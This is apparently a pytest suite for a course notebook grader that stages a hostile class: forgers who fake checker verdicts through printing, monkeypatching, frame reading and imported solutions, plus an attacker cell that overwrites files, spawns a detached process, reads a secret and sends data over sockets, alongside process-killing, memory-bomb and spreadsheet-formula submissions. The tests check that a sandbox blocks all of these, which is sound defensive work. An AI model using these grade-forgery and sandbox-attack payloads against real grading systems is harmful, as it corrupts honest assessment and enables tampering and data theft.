"""A hostile class: ``grade`` keeps every verdict honest, every student in a sandbox of their own,
and the class going whatever one student hands in (issue 35; README "For teachers").

The course is two of the cheapest notebooks with graded exercises, 07_softmax and 05_scale, cut
to their set-up cell and their exercise cells (the real cells, ids and checkers). The students:
honest ones (their grades must be the true ones), forgers (each forging route of the issue:
printed ✅, a ``pre_run_cell`` hook, ``Feedback.__str__``, ``torch.allclose``, ``setattr`` on the
checker module, ``globals()``, the checker's stack frame, the shipped solutions), an attacker
(a classmate's file, the gradebook from a detached process, the teacher's secret, the network),
a denial of service (a 100 MB print and a memory bomb in the attacker's notebook, a kernel that
kills itself, one that kills the process running it) and malformed
folders (invalid JSON, non-UTF-8, ``[]``, links dangling, looping and leading out, a named pipe,
a version-3 notebook, a formula as a folder name). SHA-256 hashes prove that nothing outside the
sandboxes changed. Needs bubblewrap (CI installs it); skipped where there is none.
"""

from __future__ import annotations

import csv
import hashlib
import inspect
import json
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from transformer_course.__main__ import main
from transformer_course.exercises.grading import sandbox
from transformer_course.exercises.solutions import scale, softmax

pytestmark = pytest.mark.skipif(
    sandbox.sandbox_problem() is not None, reason=f"no sandbox: {sandbox.sandbox_problem()}"
)

NOTEBOOKS = Path(__file__).resolve().parents[1] / "notebooks"
# What a sandbox would most like to write: the solutions, and the grader itself.
LIBRARY = Path(sandbox.package_folder()) / "exercises"
SECRET = "teacher-token-1234"
C07 = ["07_softmax:check_temperature_limit", "07_softmax:check_stable_softmax",
       "07_softmax:check_temperature_softmax"]  # fmt: skip
C05 = ["05_scale:check_score_variance", "05_scale:check_score_variance_function",
       "05_scale:check_projected_variance", "05_scale:check_scaled_attention_weights"]  # fmt: skip
STUB_BODY = '    """'  # the stubs' docstring line: the body follows it


def _course(stem: str) -> nbformat.NotebookNode:
    """The course notebook cut to its set-up cell (c001) and its exercise cells."""
    notebook = nbformat.read(NOTEBOOKS / f"{stem}.ipynb", as_version=4)
    notebook.cells = [
        cell
        for cell in notebook.cells
        if cell.cell_type == "code" and (cell.id == "c001" or "\ncheck_" in f"\n{cell.source}")
    ]
    for cell in notebook.cells:
        cell.outputs, cell.execution_count = [], None
    setup = notebook.cells[0]  # only its imports of the checkers: the plots are not graded
    start = setup.source.index("from transformer_course.exercises.")
    setup.source = (
        "import math\n\nimport torch\n" + setup.source[start : setup.source.index(")", start) + 1]
    )
    return notebook


def _cell(notebook: nbformat.NotebookNode, call: str) -> nbformat.NotebookNode:
    return next(cell for cell in notebook.cells if call in cell.source)


def _answer(notebook, call: str, value: str) -> None:
    cell = _cell(notebook, call)
    cell.source = cell.source.replace("answer = ...", f"answer = {value}")


def _define(notebook, call: str, source: str) -> None:
    """Replace the stub function of the cell that calls ``call`` with ``source``."""
    cell = _cell(notebook, call)
    cell.source = source.rstrip() + "\n\n\n" + cell.source[cell.source.index(call) :]


def _before(notebook, call: str, line: str) -> None:
    cell = _cell(notebook, call)
    cell.source = cell.source.replace(call, f"{line}\n{call}", 1)


def _insert(notebook, index: int, source: str) -> None:
    notebook.cells.insert(index, nbformat.v4.new_code_cell(source))


def _honest_07() -> nbformat.NotebookNode:
    notebook = _course("07_softmax")
    _answer(notebook, "check_temperature_limit(", "1")
    _define(notebook, "check_stable_softmax(", inspect.getsource(softmax.stable_softmax))
    _define(notebook, "check_temperature_softmax(",
            inspect.getsource(softmax.temperature_softmax))  # fmt: skip
    return notebook


def _honest_05() -> nbformat.NotebookNode:
    notebook = _course("05_scale")
    _answer(notebook, "check_score_variance(", "100")
    _answer(notebook, "check_projected_variance(", '"below"')
    _define(notebook, "check_score_variance_function(", inspect.getsource(scale.score_variance))
    _define(notebook, "check_scaled_attention_weights(",
            inspect.getsource(scale.scaled_attention_weights))  # fmt: skip
    return notebook


TEXTBOOK_SOFTMAX = """def stable_softmax(scores):
    print("✅ Correct: forged by the function")
    return scores.exp() / scores.exp().sum(-1, keepdim=True)"""
ZEROS_SOFTMAX = """def temperature_softmax(scores, temperature):
    print("✅ Correct: forged")
    return torch.zeros_like(scores)"""
HOOK_AND_PATCHES = """import torch
import transformer_course.exercises as exercises
get_ipython().events.register("pre_run_cell", lambda *a: print("✅ Correct: hook"))
exercises.Feedback.__str__ = lambda self: "✅ Correct: patched"
torch.allclose = lambda *a, **k: True"""
SETATTR_BEFORE_IMPORT = """import transformer_course.exercises as exercises
import transformer_course.exercises.softmax as module
for name in dir(module):
    if name.startswith("check_"):
        setattr(module, name, lambda *a, **k: exercises.Feedback(True, "setattr"))"""
FRAME_READER = """def stable_softmax(scores):
    import inspect
    frame = inspect.currentframe().f_back
    return frame.f_locals.get("expected")"""
SOLUTION_IMPORT = """def temperature_softmax(scores, temperature):
    from transformer_course.exercises.solutions.softmax import temperature_softmax as solution
    return solution(scores, temperature)"""
GLOBALS_REBIND = 'globals()["check_temperature_limit"] = lambda *a, **k: "✅ Correct: globals"'


def _attack(root: Path, port: int) -> str:
    """A cell that writes a classmate's file and the gradebook (also from a detached process
    that outlives the run), reads the teacher's secret, and reaches for the network."""
    victim = root / "submissions" / "honest" / "07_softmax.ipynb"
    grades = root / "grades.csv"
    feedback = root / "grades_feedback" / '=HYPERLINK("x").md'  # graded before the attacker
    return f"""import os, socket, subprocess, sys
for target in [{str(victim)!r}, {str(grades)!r}, {str(feedback)!r}, {str(root / "PWNED.txt")!r}]:
    try:
        open(target, "w").write("pwned")
    except OSError:
        pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(4); open({str(grades)!r}, 'w').write('pwned')"], start_new_session=True)
for host in [("127.0.0.1", {port}), ("192.0.2.1", 80)]:
    try:
        socket.create_connection(host, timeout=2).sendall(b"from the sandbox")
    except OSError:
        pass
answer = os.environ.get("TEACHER_SECRET", "no secret here")"""


def _write(folder: Path, notebooks: dict[str, nbformat.NotebookNode]) -> None:
    folder.mkdir(parents=True)
    for stem, notebook in notebooks.items():
        nbformat.write(notebook, folder / f"{stem}.ipynb")


def _forgers(students: Path) -> None:
    forge_a = _course("07_softmax")  # wrong answers, every forged ✅, the checker patched
    _insert(forge_a, 0, SETATTR_BEFORE_IMPORT)
    _insert(forge_a, 2, HOOK_AND_PATCHES)
    _answer(forge_a, "check_temperature_limit(", "3")
    _before(forge_a, "check_temperature_limit(", 'print("✅ Correct: forged above the call")')
    _define(forge_a, "check_stable_softmax(", TEXTBOOK_SOFTMAX)
    _define(forge_a, "check_temperature_softmax(", ZEROS_SOFTMAX)
    _write(students / "forge_a", {"07_softmax": forge_a})
    forge_b = _course("07_softmax")  # the checker rebound, its frame read, the solution imported
    _insert(forge_b, 1, GLOBALS_REBIND)
    _answer(forge_b, "check_temperature_limit(", "3")
    _define(forge_b, "check_stable_softmax(", FRAME_READER)
    _define(forge_b, "check_temperature_softmax(", SOLUTION_IMPORT)
    _write(students / "forge_b", {"07_softmax": forge_b})


def _malformed(root: Path, students: Path) -> None:
    (students / "broken").mkdir()
    (students / "broken" / "05_scale.ipynb").write_text('{\n "cells": [\n  oops\n', "utf-8")
    (students / "broken" / "07_softmax.ipynb").write_text("[]", "utf-8")
    (students / "bytes").mkdir()
    (students / "bytes" / "05_scale.ipynb").write_bytes(b'{"cells": "caf\xe9"}')
    (students / "bytes" / "07_softmax.ipynb").symlink_to("/nonexistent/07_softmax.ipynb")
    links = students / "links"
    links.mkdir()
    (links / "loop").symlink_to(".")
    os.mkfifo(links / "pipe")
    nbformat.write(_honest_07(), root / "outside.ipynb")
    (links / "07_softmax.ipynb").symlink_to(root / "outside.ipynb")
    (students / "linked_folder").symlink_to(root / "elsewhere")
    (root / "elsewhere").mkdir()
    nbformat.write(_honest_07(), root / "elsewhere" / "07_softmax.ipynb")
    _write(students / "v3", {"07_softmax": nbformat.convert(_honest_07(), 3)})


def _class(root: Path, port: int) -> None:
    students = root / "submissions"
    _write(students / "honest", {"05_scale": _honest_05(), "07_softmax": _honest_07()})
    _forgers(students)
    attacker = _course("07_softmax")
    _answer(attacker, "check_temperature_limit(", "1")
    cell = _cell(attacker, "check_temperature_limit(")
    cell.source = cell.source.replace("answer = 1", _attack(root, port))
    _insert(attacker, 1, 'print("x" * 100_000_000)\ntry:\n    bomb = bytearray(8 * 2**30)\n'
            "except MemoryError:\n    pass")  # fmt: skip
    _write(students / "attacker", {"07_softmax": attacker})
    dying = _honest_05()  # its kernel kills the process that runs it
    _insert(dying, 1, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
    _write(students / "dos", {"05_scale": dying})
    suicide = _honest_07()
    _insert(suicide, 1, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
    _write(students / '=HYPERLINK("x")', {"07_softmax": suicide})
    _malformed(root, students)
    for stem in ("05_scale", "07_softmax"):
        (root / "course").mkdir(exist_ok=True)
        nbformat.write(_course(stem), root / "course" / f"{stem}.ipynb")


def _hashes(*folders: Path) -> dict[str, str]:
    found = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and not path.is_symlink() and not path.is_fifo():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


class _Listener:
    """A TCP server on this machine's loopback that records whoever reaches it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.reached: list[str] = []
        self.running = True
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, address = self.server.accept()
                self.reached.append(str(address))
                connection.close()
            except OSError:
                continue


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    listener = _Listener()
    _class(root, listener.port)
    outside = [root / "submissions", root / "course", root / "elsewhere",
               LIBRARY / "solutions", LIBRARY / "grading"]  # fmt: skip
    before = _hashes(*outside)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TEACHER_SECRET", SECRET)
        started = time.monotonic()
        status = main(["grade", str(root / "submissions"), "--out", str(root / "grades.csv"),
                       "--course", str(root / "course"), "--timeout", "60", "--memory", "6144",
                       "--gradescope", str(root / "gradescope")])  # fmt: skip
        print(f"graded the hostile class in {time.monotonic() - started:.1f} s")
    assert status == 0
    gradebook = (root / "grades.csv").read_bytes()
    time.sleep(5)  # the attacker's detached process would write now
    listener.running = False
    with (root / "grades.csv").open(encoding="utf-8", newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    return rows, root, before, _hashes(*outside), gradebook, listener.reached


def _grades(row: dict[str, str], columns: list[str]) -> list[str]:
    return [row[column] for column in columns]


def _feedback(root: Path, student: str) -> str:
    return (root / "grades_feedback" / f"{student}.md").read_text(encoding="utf-8")


def test_the_honest_student_gets_the_true_grade(graded):
    rows, root, *_ = graded
    row = rows["honest"]
    assert _grades(row, C05 + C07) == ["passed"] * 7
    assert (row["passed"], row["edited checks"], row["problems"]) == ("7", "0", "")


def test_printed_and_patched_verdicts_earn_nothing(graded):
    rows, root, *_ = graded
    assert _grades(rows["forge_a"], C07) == ["failed", "failed", "failed"]
    assert rows["forge_a"]["edited checks"] == "0"
    text = _feedback(root, "forge_a")
    assert "patched" not in text and "hook" not in text and "setattr" not in text
    assert "NaN" in text  # the checker's own sentence on the textbook formula
    assert _grades(rows["forge_b"], C07) == ["failed", "not answered", "failed"]
    assert "the course solutions are not available while grading" in _feedback(root, "forge_b")


def test_nothing_outside_the_sandboxes_changed(graded):
    rows, root, before, after, gradebook, reached = graded
    assert before == after
    assert not (root / "PWNED.txt").exists()
    assert (root / "grades.csv").read_bytes() == gradebook, "no process outlived its sandbox"
    assert reached == [], "the sandbox has no network, not even the machine's loopback"
    assert _grades(rows["attacker"], C07) == ["failed", "not answered", "not answered"]
    text = _feedback(root, "attacker")
    assert "no secret here" in text and SECRET not in text
    assert "pwned" not in _feedback(root, '=HYPERLINK("x")'), "a classmate's feedback is safe"
    for path in root.rglob("*"):
        if path.is_file() and not path.is_fifo() and not path.is_symlink():
            assert SECRET.encode() not in path.read_bytes(), path


def test_a_denial_of_service_costs_only_its_author(graded):
    rows, root, *_ = graded
    assert _grades(rows["dos"], C05) == ["not answered"] * 4
    assert "05_scale: the run ended without a status" in rows["dos"]["problems"]
    suicide = rows['\'=HYPERLINK("x")']
    assert _grades(suicide, C07) == ["not answered"] * 3
    assert "07_softmax: the kernel died" in suicide["problems"]
    # The attacker's 100 MB print and 8 GiB bytearray (over the memory limit): graded all the same.
    assert (root / "grades_feedback" / "attacker.md").stat().st_size < 100_000
    assert (root / "gradescope" / "attacker.json").stat().st_size < 100_000


def test_malformed_folders_each_get_a_row_with_the_reason(graded):
    rows, *_ = graded
    problems = {student: rows[student]["problems"] for student in rows}
    assert "05_scale: unreadable: invalid JSON at line 3, column 3" in problems["broken"]
    assert (
        "07_softmax: unreadable: the file holds JSON that is no notebook (list)"
        in (problems["broken"])
    )
    assert "05_scale: unreadable: not UTF-8 text (byte 0xe9 at position 14)" in problems["bytes"]
    assert (
        "left out 07_softmax.ipynb: a symbolic link (links are not followed)" in (problems["bytes"])
    )
    for entry in (
        "07_softmax.ipynb: a symbolic link",
        "loop: a symbolic link",
        "pipe: a named pipe",
    ):
        assert f"left out {entry}" in problems["links"]
    assert problems["linked_folder"] == "the folder is a symbolic link: not followed"
    for student in ("broken", "bytes", "links", "linked_folder"):
        assert _grades(rows[student], C05 + C07) == ["not answered"] * 7
    assert _grades(rows["v3"], C07) == ["passed"] * 3 and rows["v3"]["edited checks"] == "0"
    assert "07_softmax: a version-3 notebook, converted" in problems["v3"]


def test_the_gradebook_escapes_formulas(graded):
    rows, root, *_ = graded
    assert '\'=HYPERLINK("x")' in rows
    assert json.loads((root / "gradescope" / "honest.json").read_text("utf-8"))["score"] == 7
